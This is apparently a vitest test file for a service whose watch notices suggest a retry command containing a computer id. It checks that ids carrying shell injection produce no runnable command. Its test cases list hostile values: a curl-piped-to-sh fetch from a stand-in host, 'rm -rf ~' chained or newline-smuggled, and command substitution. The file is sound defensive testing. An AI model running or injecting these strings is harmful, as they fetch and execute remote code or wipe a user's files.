// A watch notice suggests a command to paste; the computer's id in it comes from the service.
import { describe, expect, it } from "vitest";
import { validateConfig } from "../../../src/config/validate-config.js";
import { noticeOf, retryCommand } from "../../../src/service/watch/notices.js";

const config = validateConfig({}, {}).value;

function errorNotice(computerId: string) {
  return noticeOf(
    { kind: "ComputerError", computerId, name: "dev box", failedSteps: [{ name: "deps" }] },
    config,
    { id: "n1", now: 0, project: "service.example" },
  );
}

describe("the suggested retry command", () => {
  it("names a plain id as is", () => {
    expect(errorNotice("comp-123_a.b").body).toContain(
      "Retry the dependencies step: hook-notify computers retry comp-123_a.b",
    );
  });

  // Issue 25: `hook-notify computers retry c1; curl … | sh #` reached Slack.
  it.each([
    "c1; curl -s http://x.example/p | sh #",
    "c1 && rm -rf ~",
    "$(touch /tmp/x)",
    "`id`",
    "c1\nrm -rf ~",
    "-rf",
    "c1'\"",
  ])("shows no runnable command for the id %j", (id) => {
    const body = errorNotice(id).body;
    expect(body).not.toContain(`retry ${id}`);
    expect(body).toContain(
      "hook-notify computers retry <id> (this computer's id is not plain text",
    );
    expect(retryCommand(id)).not.toContain(id);
  });
});
